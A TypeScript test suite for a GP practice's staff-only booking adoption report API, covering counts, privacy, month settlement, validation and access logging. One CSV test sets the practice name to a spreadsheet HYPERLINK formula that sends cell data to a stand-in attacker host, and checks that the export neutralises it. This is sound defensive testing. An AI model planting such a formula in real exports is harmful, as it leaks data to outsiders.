import assert from 'node:assert/strict';
import {after, before, describe, it} from 'node:test';
import type {components} from '@gp-elements/contract';
import {definitionsIn} from '../domain/adoption/definitions.ts';
import {localDate} from '../domain/zone.ts';
import {insertAppointment, updateAppointment, type AppointmentRow} from '../store/appointments.ts';
import {insertHold, removeHold, type SlotHold} from '../store/holds.ts';
import {writeTransaction} from '../store/transaction.ts';
import {testClock} from '../testing/clock.ts';
import {putSettings} from '../testing/gateway.ts';
import {addPerson} from '../testing/people.ts';
import {
  addSlots,
  bookingSettings,
  startBookingPractice,
  type BookingPractice,
} from './booking/testing/booking-practice.ts';

type Report = components['schemas']['AdoptionReport'];
type Month = components['schemas']['AdoptionMonth'];
type Problem = components['schemas']['Problem'];

const HOUR = 3_600_000;
const zone = 'Europe/Amsterdam';
/** Nobody whom these tests make is called, or has, anything that a report could say by chance. */
const NAMES = ['Zwaluwstaart', 'Quispelbeer'];
const REASON = 'jeukende elleboog';

let practice: BookingPractice;
let staff: string;

const ask = async <T>(
  url: string,
  {
    method = 'GET',
    token = staff,
    body,
    headers = {},
  }: {method?: 'GET' | 'PUT'; token?: string; body?: unknown; headers?: Record<string, string>} = {},
): Promise<{status: number; body: T; text: string; headers: Record<string, unknown>}> => {
  const answer = await practice.app.inject({
    method,
    url: `/v1/reports/adoption${url}`,
    headers: {
      authorization: `Bearer ${token}`,
      ...(body === undefined ? {} : {'content-type': 'application/json'}),
      ...headers,
    },
    ...(body === undefined ? {} : {payload: JSON.stringify(body)}),
  });
  const isJson = String(answer.headers['content-type']).includes('json');
  return {
    status: answer.statusCode,
    body: isJson ? answer.json<T>() : (undefined as T),
    text: answer.body,
    headers: answer.headers,
  };
};

function figure(
  figures: readonly components['schemas']['AdoptionFigure'][],
  measure: string,
  place: {channel?: string; ageBand?: string} = {},
): number | string | undefined {
  const found = figures.filter(
    (one) => one.measure === measure && one.channel === place.channel && one.ageBand === place.ageBand,
  );
  assert.equal(found.length, 1, `${measure} ${JSON.stringify(place)}`);
  return found[0]?.state === 'shown' ? found[0].value : found[0]?.state;
}

function monthOf(report: Report, month: string): Report['services'][number]['months'][number]['figures'] {
  return report.services[0]?.months.find((one) => one.month === month)?.figures ?? [];
}

/** The same script at every run. */
function random(seed: number): (below: number) => number {
  let state = seed;
  return (below) => {
    state = (state * 1_103_515_245 + 12_345) % 2_147_483_648;
    return Math.floor((state / 2_147_483_648) * below);
  };
}

const PEOPLE: readonly [band: string, birth: string][] = [
  ['under-12', '2020-06-15'],
  ['12-17', '2011-06-15'],
  ['18-39', '1995-06-15'],
  ['40-64', '1975-06-15'],
  ['65-79', '1955-06-15'],
  ['80-plus', '1940-06-15'],
];

const nobody = {
  appointment_type_id: null,
  type_name: 'Spreekuur',
  practitioner_id: null,
  practitioner_name: null,
  location_id: null,
  location_name: null,
  slot_id: null,
  reason: REASON,
  reason_withheld: 0,
  needs: null,
  instructions: null,
  urgent_notice_version: null,
  online_editable: null,
  online_editable_until: null,
  cancelled_at: null,
  cancelled_by: null,
  cancelled_late: 0,
  cancellation_reason: REASON,
  slot_vanished: 0,
  recorded_revision: null,
  recorded_at: null,
  change_number: null,
  seen_at: null,
  alerted_at: null,
  source_system: null,
  source_id: null,
  source_version: null,
} as const;

/**
 * October as a script of 2,000 events, done by the functions that the service itself uses, and counted by hand beside it:
 * a list of lines that are filtered, nothing of the gateway's own.
 */
async function playOctober(): Promise<{
  lines: {what: string; via: string; band: string; person: string}[];
  hours: number[];
  late: number;
}> {
  const next = random(2026);
  const lines: {what: string; via: string; band: string; person: string}[] = [];
  const hours: number[] = [];
  let late = 0;
  const people: {id: string; band: string}[] = [];
  for (let index = 0; index < 600; index += 1) {
    const [band, birth] = PEOPLE[index % PEOPLE.length]!;
    const id = `person-${index}`;
    await addPerson(practice.db, {id, name: `${NAMES[index % 2]} ${index}`, birth_date: birth});
    people.push({id, band});
  }
  const from = Date.parse('2026-10-01T00:00+02:00');
  const instants = Array.from({length: 2000}, () => from + next(30 * 24 * 60) * 60_000).sort((a, b) => a - b);
  await writeTransaction(practice.db, async (trx) => {
    const made: {row: AppointmentRow; via: string; band: string}[] = [];
    const asked: typeof made = [];
    let count = 0;
    for (const now of instants) {
      count += 1;
      const {id: person, band} = people[next(people.length)]!;
      const note = (what: string, via: string, whose = band, who = person) =>
        lines.push({what, via, band: whose, person: who});
      const row = (via: string, status: 'booked' | 'proposed', channel: string): AppointmentRow => ({
        ...nobody,
        id: `apt-${count}`,
        revision: 1,
        status,
        subject_id: person,
        actor_id: person,
        channel,
        start_at: now + 48 * HOUR,
        end_at: now + 49 * HOUR,
        answer_by: status === 'proposed' ? localDate(now + 48 * HOUR, zone) : null,
        made_via: via,
        time_set_at: null,
        created_at: now,
        updated_at: now,
      });
      const dice = next(100);
      if (dice < 50 || made.length === 0) {
        const via = ['online', 'online', 'online', 'desk', 'phone', 'import'][next(6)]!;
        const one = row(via, 'booked', ['practice', 'phone', 'video'][next(3)]!);
        await insertAppointment(trx, one, 'patient');
        made.push({row: one, via, band});
        note('made', via);
      } else if (dice < 58) {
        const one = row('online', 'proposed', 'practice');
        await insertAppointment(trx, one, 'patient');
        asked.push({row: one, via: 'online', band});
        note('made', 'online');
      } else if (dice < 66) {
        const request = asked.shift();
        if (request === undefined) {
          const one = row('desk', 'booked', 'practice');
          await insertAppointment(trx, one, 'patient');
          note('made', 'desk');
          continue;
        }
        const isYes = next(3) > 0;
        await updateAppointment(
          trx,
          request.row,
          isYes
            ? {status: 'booked', updated_at: now}
            : {status: 'cancelled', cancelled_by: 'practice', cancelled_at: now, updated_at: now},
          'practice',
        );
        hours.push(Math.ceil((now - request.row.created_at) / HOUR));
        if (localDate(now, zone) > request.row.answer_by!) late += 1;
        note('answered', 'online', request.band);
      } else if (dice < 74) {
        const one = made.splice(next(made.length), 1)[0]!;
        await updateAppointment(
          trx,
          one.row,
          {
            status: 'cancelled',
            cancelled_by: 'patient',
            updated_at: now,
          },
          'practice',
        );
        note('cancelled', one.via, one.band);
      } else if (dice < 80) {
        const one = made.splice(next(made.length), 1)[0]!;
        await updateAppointment(trx, one.row, {status: 'noshow', updated_at: now}, 'practice');
        note('missed', one.via, one.band);
      } else if (dice < 84) {
        const one = made.splice(next(made.length), 1)[0]!;
        await updateAppointment(trx, one.row, {channel: 'practice', updated_at: now}, 'practice');
        note(one.row.channel === 'practice' ? 'nothing' : 'converted', one.via, one.band);
      } else {
        const hold: SlotHold = {
          id: `hold-${count}`,
          actor_id: `hold-${count}`,
          subject_id: person,
          appointment_type_id: 'spreekuur',
          slot_id: 'slot',
          start_at: now + HOUR,
          end_at: now + 2 * HOUR,
          expires_at: now + HOUR / 6,
          extensions: 0,
          created_at: now,
        };
        await insertHold(trx, hold);
        const end = next(4);
        if (end === 0) note('left', 'online');
        else await removeHold(trx, hold, end === 1 ? 'ended' : 'booked', now);
        if (end === 1) note('abandoned', 'online');
        if (end > 1) note('held', 'online');
      }
    }
  });
  return {lines, hours, late};
}

describe('the adoption report over a scripted month', () => {
  let script: Awaited<ReturnType<typeof playOctober>>;
  let report: Report;
  let october: ReturnType<typeof monthOf>;
  const QUERY = '?from=2026-10-01&to=2026-10-31';

  before(async () => {
    practice = await startBookingPractice(
      bookingSettings({}, {services: [{service: 'booking', mode: 'direct', startedOn: '2026-10-01'}]}),
      testClock('2026-11-23T08:05:00+01:00'),
    );
    staff = await practice.tokenFor('staff-assistant', 'staff');
    script = await playOctober();
    const {status, body, text} = await ask<Report>(QUERY);
    assert.equal(status, 200, text);
    report = body;
    october = monthOf(report, '2026-10');
  });
  after(() => practice.close());

  const counted = (what: string, via?: string, band?: string) =>
    script.lines.filter(
      (line) =>
        line.what === what &&
        (via === undefined || line.via === via) &&
        (band === undefined || line.band === band),
    ).length;
  const share = (part: number, whole: number) => Math.round((part / whole) * 10_000) / 10_000;

  it('has 2,000 events in it', () => {
    assert.equal(script.lines.length, 2000);
    assert.ok(script.hours.length > 50 && script.late > 10, `${script.hours.length} ${script.late}`);
  });

  it('counts what was made by channel and age as by hand', () => {
    assert.equal(figure(october, 'made'), counted('made'));
    for (const channel of ['online', 'desk', 'phone', 'import'])
      assert.equal(figure(october, 'made', {channel}), counted('made', channel), channel);
    for (const [ageBand] of PEOPLE) {
      const online = counted('made', 'online', ageBand);
      const all = counted('made', undefined, ageBand);
      assert.equal(figure(october, 'made', {channel: 'online', ageBand}), online, ageBand);
      assert.equal(figure(october, 'made', {ageBand}), all, ageBand);
      assert.equal(figure(october, 'digital-share', {ageBand}), share(online, all), ageBand);
    }
    assert.equal(figure(october, 'made', {ageBand: 'unknown'}), 0);
    assert.equal(figure(october, 'digital-share'), share(counted('made', 'online'), counted('made')));
  });

  it('counts people once', async () => {
    const people = new Set(
      script.lines.filter(({what, via}) => what === 'made' && via === 'online').map(({person}) => person),
    );
    assert.equal(figure(october, 'users'), people.size);
    assert.equal(figure(october, 'user-share'), 'none');
    const filled = await ask<Month>('/months/2026-10', {
      method: 'PUT',
      headers: {'if-match': '"0"', 'idempotency-key': 'filled-in-october'},
      body: {phoneCalls: 1500, registeredPatients: 3000},
    });
    assert.equal(filled.status, 200, filled.text);
    const again = monthOf((await ask<Report>(QUERY)).body, '2026-10');
    assert.equal(figure(again, 'user-share'), share(people.size, 3000));
    assert.equal(figure(again, 'phone-calls-per-1000'), 500);
    // A month that was told does not change with what is deleted later.
    await practice.db
      .deleteFrom('appointment')
      .where('subject_id', 'in', [...people].slice(0, 40))
      .execute();
    assert.equal(figure(monthOf((await ask<Report>(QUERY)).body, '2026-10'), 'users'), people.size);
  });

  it('tells reply times, promises, conversions, what was not finished, and who did not come, as by hand', () => {
    const sorted = [...script.hours].sort((a, b) => a - b);
    const middle = (sorted.length - 1) / 2;
    assert.equal(figure(october, 'replies'), sorted.length);
    assert.equal(
      figure(october, 'reply-median-hours'),
      (sorted[Math.floor(middle)]! + sorted[Math.ceil(middle)]!) / 2,
    );
    assert.equal(figure(october, 'reply-within-promise'), share(sorted.length - script.late, sorted.length));
    assert.equal(figure(october, 'converted'), counted('converted', 'online'));
    const abandoned = counted('left') + counted('abandoned');
    assert.equal(figure(october, 'abandoned'), abandoned);
    assert.equal(figure(october, 'holds'), abandoned + counted('held'));
    assert.equal(figure(october, 'abandoned-share'), share(abandoned, abandoned + counted('held')));
    assert.equal(figure(october, 'cancelled'), counted('cancelled'));
    assert.equal(figure(october, 'no-shows'), counted('missed'));
    for (const channel of ['online', 'desk', 'phone', 'import']) {
      const missed = counted('missed', channel);
      const shown = figure(october, 'no-shows', {channel});
      assert.ok(shown === missed || (shown === 'hidden' && script.lines.length > 0), channel);
      if (missed > 0 && missed < 10) assert.equal(shown, 'hidden');
      if (shown === missed)
        assert.equal(figure(october, 'no-show-share', {channel}), share(missed, counted('made', channel)));
    }
    // At least one is large enough to be seen.
    assert.equal(figure(october, 'no-shows', {channel: 'online'}), counted('missed', 'online'));
  });

  it('counts a hold that nobody removed once, before and after it is swept', async () => {
    const {body} = await ask<Report>(QUERY);
    const before = await practice.db.selectFrom('slot_hold').select('id').execute();
    assert.equal(before.length, counted('left'));
    await addSlots(practice.db, 'bakker', '2026-11-25', '09:00', 2);
    const held = await practice.call('POST', '/slot-holds', {
      body: {timeSlotId: 'bakker-2026-11-25-0900', appointmentTypeId: 'spreekuur'},
    });
    assert.equal(held.status, 201);
    assert.equal((await practice.db.selectFrom('slot_hold').select('id').execute()).length, 1);
    const {body: after} = await ask<Report>(QUERY);
    assert.deepEqual(after.services, body.services);
  });

  it('knows nothing of a month before the first count, also not that it was nobody', async () => {
    const filled = await ask<Month>('/months/2026-08', {
      method: 'PUT',
      headers: {'if-match': '"0"', 'idempotency-key': 'filled-in-august'},
      body: {phoneCalls: 1800, registeredPatients: 3000},
    });
    assert.equal(filled.status, 200, filled.text);
    // What was kept when somebody asked for a month is no count of it.
    await practice.db
      .insertInto('domain_event_count')
      .values({
        month: '2026-07',
        service: 'booking',
        event: 'patients-online',
        channel: 'online',
        age_band: 'unknown',
        count: 0,
      })
      .execute();
    const {body} = await ask<Report>('?from=2026-07-01&to=2026-10-31');
    const [booking] = body.services;
    for (const month of ['2026-07', '2026-08', '2026-09'])
      for (const one of monthOf(body, month))
        assert.equal(
          one.state,
          month === '2026-08' && one.measure === 'phone-calls-per-1000' ? 'shown' : 'none',
          `${month} ${one.measure}`,
        );
    assert.deepEqual(monthOf(body, '2026-10'), monthOf((await ask<Report>(QUERY)).body, '2026-10'));
    // Of July and September not even the phone is known.
    assert.deepEqual(
      [booking?.period.monthCount, booking?.before?.monthCount, booking?.after?.monthCount],
      [2, 1, 1],
    );
    assert.equal(figure(booking?.period.figures ?? [], 'made'), counted('made'));
    assert.equal(figure(booking?.period.figures ?? [], 'made-per-month'), counted('made'));
    assert.equal(figure(booking?.before?.figures ?? [], 'made-per-month'), 'none');
    assert.equal(figure(booking?.before?.figures ?? [], 'phone-calls-per-1000'), 600);
    const phone = booking?.before?.figures.find(({measure}) => measure === 'phone-calls-per-1000');
    assert.equal(phone?.monthCount, 1);
  });

  it('makes a period of its months, and before and after of the day the service began', () => {
    const [booking] = report.services;
    assert.equal(booking?.startedOn, '2026-10-01');
    assert.deepEqual(
      [booking?.period.monthCount, booking?.before?.monthCount, booking?.after?.monthCount],
      [1, 0, 1],
    );
    assert.equal(figure(booking?.after?.figures ?? [], 'made'), counted('made'));
    assert.equal(figure(booking?.before?.figures ?? [], 'digital-share'), 'none');
  });

  it('carries its definitions, each measure one with a version, in Dutch and in English', async () => {
    assert.deepEqual(report.definitions, definitionsIn('nl'));
    const ids = report.definitions.map(({id}) => id);
    for (const {measure} of october) assert.ok(ids.includes(measure), measure);
    assert.ok(report.definitions.every(({version, text}) => version >= 1 && text !== ''));
    const english = await ask<Report>(QUERY, {headers: {'accept-language': 'en'}});
    assert.deepEqual([english.body.language, english.body.definitions], ['en', definitionsIn('en')]);
  });

  it('says nothing of a person, a name, a reason or a kind, and neither does what is stored', async () => {
    const csv = await ask(`${QUERY}&format=csv`);
    const stored = JSON.stringify([
      await practice.db.selectFrom('domain_event_count').selectAll().execute(),
      await practice.db.selectFrom('reply_time_count').selectAll().execute(),
      await practice.db.selectFrom('adoption_month').selectAll().execute(),
    ]);
    assert.ok(stored.includes('appointment-booked'));
    for (const text of [JSON.stringify(report), csv.text, stored]) {
      for (const secret of [
        ...NAMES,
        REASON,
        'person-',
        'apt-',
        'hold-1',
        'spreekuur',
        'Spreekuur',
        '1995-06',
      ])
        assert.ok(!text.includes(secret), secret);
    }
    // Nor is there a secret kept to know somebody again by.
    for (const {name} of await practice.db.selectFrom('secret').select('name').execute())
      assert.doesNotMatch(name, /adoption|report|user|\d{4}-\d{2}/);
  });

  it('is a table for spreadsheets, in which no text is run', async () => {
    const {text: plain, headers} = await ask(`${QUERY}&format=csv`);
    assert.equal(headers['content-type'], 'text/csv; charset=utf-8; header=present');
    assert.ok(
      plain.startsWith(
        'row,practice,service,period,measure,version,unit,channel,ageBand,state,value,text,monthCount\r\n',
      ),
    );
    assert.ok(
      plain.includes(
        `figure,Huisartsenpraktijk De Linde,booking,2026-10,made,2,count,online,all,shown,${counted('made', 'online')},`,
      ),
    );
    for (const {id, name} of definitionsIn('nl'))
      assert.match(plain, new RegExp(`definition,.*${id},.*${name}`));
    const settings = bookingSettings({}, {name: '=HYPERLINK("https://boef.example?"&A1,"klik")'});
    await putSettings(practice.db, settings, practice.clock.now());
    const {text} = await ask(`${QUERY}&format=csv`);
    assert.ok(text.includes(`"'=HYPERLINK(""https://boef.example?""&A1,""klik"")"`));
    for (const row of text.split('\r\n')) {
      for (const field of row.split(',')) assert.doesNotMatch(field, /^"?[=+@-]/);
    }
  });

  it('is for staff, and each look at it is in the access log', async () => {
    for (const [scope, code] of [
      ['patient', 'scope-insufficient'],
      ['manager', 'scope-insufficient'],
    ] as const) {
      const token = await practice.tokenFor('anna', scope);
      const refused = await ask<Problem>(QUERY, {token});
      assert.deepEqual([refused.status, refused.body.code], [403, code]);
      const write = await ask<Problem>('/months/2026-09', {
        method: 'PUT',
        token,
        headers: {'if-match': '"0"', 'idempotency-key': `refused-${scope}`},
        body: {phoneCalls: 1},
      });
      assert.deepEqual([write.status, write.body.code], [403, code]);
    }
    assert.deepEqual((await ask<Month>('/months/2026-09')).body, {month: '2026-09', etag: '"0"'});
    await ask(QUERY);
    const last = await practice.db
      .selectFrom('access_log')
      .selectAll()
      .orderBy('seq', 'desc')
      .limit(1)
      .executeTakeFirstOrThrow();
    assert.deepEqual(
      [last.actor_id, last.actor_role, last.subject_id, last.action, last.resource, last.outcome],
      ['staff-assistant', 'staff', null, 'getAdoptionReport', 'AdoptionReport/2026-10-01.2026-10-31', 200],
    );
  });
});

describe('months of the report', () => {
  before(async () => {
    practice = await startBookingPractice(bookingSettings(), testClock('2026-11-05T08:05:00+01:00'));
    staff = await practice.tokenFor('staff-assistant', 'staff');
  });
  after(() => practice.close());

  it('stand a week after their end, so that no figure is seen to grow', async () => {
    const QUERY = '?from=2026-09-01&to=2026-12-31';
    const early = (await ask<Report>(QUERY)).body;
    assert.deepEqual(
      early.months.map(({month}) => month),
      ['2026-09', '2026-10', '2026-11', '2026-12'],
    );
    assert.deepEqual(
      [early.settledThrough, early.services[0]?.months.map(({month}) => month)],
      ['2026-09', ['2026-09']],
    );
    practice.clock.set('2026-11-08T00:00:00+01:00');
    staff = await practice.tokenFor('staff-assistant', 'staff');
    const later = (await ask<Report>(QUERY)).body;
    assert.equal(later.settledThrough, '2026-10');
  });

  it('are asked for by days that exist and follow one another', async () => {
    for (const query of [
      '?from=2026-02-30&to=2026-03-31',
      '?from=2026-03-01&to=2026-02-01',
      '?from=2000-01-01&to=2026-02-01',
      '?from=0000-01-01&to=0001-02-01',
      '?from=2026-01-01',
      '?from=2026-01-01&to=2026-02-01&format=xml',
    ]) {
      const {status, body} = await ask<Problem>(query);
      assert.deepEqual([status, body.code], [400, 'validation-failed'], query);
    }
    const part = (await ask<Report>('?from=2026-09-02&to=2026-10-30')).body;
    assert.deepEqual([part.months, part.services[0]?.months], [[], []]);
  });

  it('are filled in on what was read, once per key, and not ahead', async () => {
    const put = (month: string, ifMatch: string, key: string, body: unknown) =>
      ask<Month & Problem>(`/months/${month}`, {
        method: 'PUT',
        headers: {'if-match': ifMatch, 'idempotency-key': key},
        body,
      });
    const first = await put('2026-10', '"0"', 'first-key', {phoneCalls: 1480});
    assert.deepEqual([first.status, first.body], [200, {month: '2026-10', etag: '"1"', phoneCalls: 1480}]);
    const twin = await put('2026-10', '"0"', 'first-key', {phoneCalls: 1480});
    assert.deepEqual([twin.status, twin.headers['idempotency-replayed']], [200, 'true']);
    const stale = await put('2026-10', '"0"', 'second-key', {phoneCalls: 1});
    assert.deepEqual(
      [stale.status, stale.body.code, stale.body.currentAdoptionMonth],
      [412, 'precondition-failed', {month: '2026-10', etag: '"1"', phoneCalls: 1480}],
    );
    const second = await put('2026-10', '"1"', 'third-key', {registeredPatients: 2950});
    assert.deepEqual(second.body, {month: '2026-10', etag: '"2"', registeredPatients: 2950});
    const read = await ask<Month>('/months/2026-10');
    assert.deepEqual([read.headers['etag'], read.body], ['"2"', second.body]);
    const same = await ask('/months/2026-10', {headers: {'if-none-match': '"2"'}});
    assert.equal(same.status, 304);
    for (const month of ['2026-12', '2026-13', 'oktober']) {
      const none = await put(month, '"0"', `none-${month}`, {phoneCalls: 1});
      assert.deepEqual([none.status, none.body.code], [404, 'not-found'], month);
    }
    const wrong = await put('2026-10', '"2"', 'wrong-key', {phoneCalls: -1});
    assert.deepEqual([wrong.status, wrong.body.code], [400, 'validation-failed']);
    const {rows} = {rows: await practice.db.selectFrom('adoption_month').selectAll().execute()};
    assert.deepEqual(
      rows.map(({month, phone_calls: calls, revision}) => [month, calls, revision]),
      [['2026-10', null, 2]],
    );
  });
});
